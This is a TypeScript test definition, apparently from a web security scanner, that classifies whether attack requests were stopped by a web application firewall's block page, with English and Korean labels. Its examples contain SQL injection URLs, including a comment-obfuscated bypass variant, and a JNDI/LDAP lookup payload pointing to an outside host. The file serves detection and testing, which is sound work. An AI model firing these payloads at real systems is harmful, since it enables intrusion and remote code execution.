import { defineImpactTest } from '../define.ts'
import { bytesOf, shownIn, type Shown } from '../reading/forms.ts'
import { disclosedIn } from '../reading/known-content.ts'
import { BLOCK_PAGE } from '../reading/refusals.ts'
import { citesOfAll, ownAnswers } from '../reading/requests.ts'

export default defineImpactTest({
  id: 'block-page-shown',
  family: 'answer',
  title: { en: 'A firewall for applications answered', ko: '웹 방화벽 차단 페이지' },
  reasoning: {
    en: 'What stands before the server and stops a request answers in its place, with a page of its own.',
    ko: '서버 앞의 장비가 요청을 차단하면 서버 대신 고유한 차단 페이지로 응답합니다.',
  },
  spec: 'https://owasp.org/www-community/Web_Application_Firewall',
  appliesTo: 'Attacks on web servers where every answer has a body.',
  reads: ['exchanges'],
  applies: ({ exchanges }) => exchanges.some(({ body }) => body !== null),
  test(of) {
    const answers = ownAnswers(of)
    if (answers === null) return null
    const all = answers.flat()
    let first: { readonly shown: Shown; readonly product: string } | null = null
    for (const { body, status } of all) {
      // A product's page on a site about that product comes with 200 too; some really block so, and those stay undecided.
      if (status === null || (status < 400 && status !== 200)) return null
      const found = BLOCK_PAGE.map(({ product, page }) => ({ product, shown: shownIn(body, page) })).find(
        ({ shown }) => shown !== null,
      )
      if (found?.shown == null || (status === 200 && (body?.text.length ?? 0) > 16_384)) return null
      if (disclosedIn(body) !== null) return null
      first ??= { shown: found.shown, product: found.product }
    }
    return first === null
      ? null
      : {
          result: 'blocked',
          confidence: 0.92,
          reason: {
            en: `All ${answers.length} requests were answered with a page that says they were blocked: ${first.product}`,
            ko: `요청 ${answers.length}건이 모두 차단 페이지로 응답되었습니다. 제품: ${first.product}`,
          },
          cites: citesOfAll(all),
          bytes: bytesOf(first.shown),
        }
  },
  examples: [
    {
      name: 'an injection stopped before the server',
      of: {
        title: 'SQL injection',
        exchanges: [
          {
            url: "/i?id=1'or'1",
            status: 403,
            body: '<html><title>Attention Required! | Cloudflare</title><h1>Sorry, you have been blocked</h1></html>',
          },
        ],
      },
      expect: 'blocked',
    },
    {
      name: 'a lookup stopped too, with 200',
      of: {
        title: 'JNDI lookup',
        exchanges: [
          {
            url: '/?x=${jndi:ldap://203.0.113.9/a}',
            body: 'The requested URL was rejected. Please consult with your administrator.<br>Your support ID is: 1',
          },
        ],
      },
      expect: 'blocked',
    },
    {
      name: 'the second one went through',
      of: {
        title: 'SQL injection',
        exchanges: [
          { url: "/i?id=1'or'1", status: 403, body: '<title>Attention Required! | Cloudflare</title>' },
          { url: "/i?id=1'/**/or'1", status: 200, body: '<ul><li>all rows</li></ul>' },
        ],
      },
      expect: null,
    },
    {
      name: 'an answer that was not seen',
      of: {
        title: 'SQL injection',
        exchanges: [
          { url: "/i?id=1'or'1", status: 403, body: '<title>Attention Required! | Cloudflare</title>' },
          { url: "/i?id=2'or'1", status: null },
        ],
      },
      expect: null,
    },
    {
      name: 'refused by the server itself',
      of: {
        title: 'SQL injection',
        exchanges: [{ url: "/i?id=1'or'1", status: 403, body: '<title>403 Forbidden</title><hr>nginx' }],
      },
      expect: null,
    },
  ],
})
